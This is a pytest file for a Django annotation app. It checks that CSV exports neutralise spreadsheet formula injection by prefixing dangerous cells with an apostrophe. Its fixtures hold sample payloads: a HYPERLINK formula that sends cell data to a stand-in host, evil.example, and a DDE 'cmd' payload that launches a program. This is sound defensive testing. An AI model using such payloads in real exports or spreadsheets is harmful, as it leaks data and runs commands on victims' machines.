"""CSV exports: the formula guard (OWASP CSV injection), columns, lists, the Excel option."""

import csv
import io

import pytest
from django.core.cache import cache
from rest_framework.test import APIClient

from annotator.annotations import create_annotation
from annotator.models import Claim

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def _fresh_throttle_counters():
    cache.clear()


def logged_in(user):
    client = APIClient()
    client.force_login(user)
    return client


def body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def hostile(seeded, reviewer, other_reviewer):
    """Annotations whose free text starts with every character a spreadsheet evaluates."""
    doc = seeded["000"]
    claim = Claim.objects.create(text="+1 million people said so")
    first = create_annotation(
        reviewer=reviewer, document=doc, start=0, end=10, reliability=2, note=HOSTILE_NOTE,
        evidence=["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"], claim=claim, flags=["anachronism"],
    )  # fmt: skip
    second = create_annotation(
        reviewer=other_reviewer, document=doc, start=0, end=10, reliability=3,
        note="\tTAB first", claim=claim,
    )  # fmt: skip
    third = create_annotation(
        reviewer=reviewer, document=doc, start=20, end=30, reliability=4,
        note="\r=1+1", evidence=["https://example.org/a"],
    )  # fmt: skip
    return {"first": first, "second": second, "third": third, "claim": claim}


def table(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def formula_cells(rows: list[dict]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row.values()
        if isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


@pytest.mark.django_db
def test_no_annotation_csv_cell_starts_a_formula(hostile, moderator):
    rows = table(body(logged_in(moderator).get("/api/v1/exports/annotations?format=csv")))
    assert len(rows) == 3
    assert formula_cells(rows) == []
    by_id = {int(row["id"]): row for row in rows}
    assert by_id[hostile["first"].pk]["note"] == "'" + HOSTILE_NOTE
    assert by_id[hostile["second"].pk]["note"] == "'\tTAB first"
    assert by_id[hostile["third"].pk]["note"] == "'\r=1+1"


@pytest.mark.django_db
def test_no_consensus_csv_cell_starts_a_formula(hostile, moderator):
    rows = table(body(logged_in(moderator).get("/api/v1/exports/consensus?format=csv")))
    assert rows
    assert formula_cells(rows) == []


@pytest.mark.django_db
def test_export_command_csv_is_guarded_too(hostile, tmp_path):
    from django.core.management import call_command

    path = tmp_path / "a.csv"
    call_command("export", "annotations", "--format", "csv", "--output", str(path))
    rows = table(path.read_text(encoding="utf-8"))
    assert len(rows) == 3
    assert formula_cells(rows) == []
